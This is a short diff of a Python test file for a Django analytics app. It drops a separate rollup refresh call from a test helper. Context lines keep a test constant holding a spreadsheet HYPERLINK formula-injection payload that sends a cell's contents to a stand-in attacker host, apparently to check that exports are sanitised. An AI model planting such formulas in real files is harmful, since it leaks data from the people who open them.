@@ -12,7 +12,6 @@ from openpyxl import load_workbook
 from rest_framework.test import APIClient
 
 from apps.analytics.models import DailyRollup
-from apps.analytics.rollups import rollup_refresh
 from apps.analytics.services import import_rows
 from apps.core.accounts.roles import Role
 from apps.core.models import FxRate
@@ -26,8 +25,8 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
 def load(source, rows):
-    job = import_rows(import_job(source, force=True), [rows], reading=reading_of(rows))
-    rollup_refresh(organization_id=source.organization_id, source_id=source.pk, import_job=job)
+    # The import sums its days into the rollup, which the reports read.
+    import_rows(import_job(source, force=True), [rows], reading=reading_of(rows))
 
 
 def row(line, day, name, spend, currency="USD", **metrics):
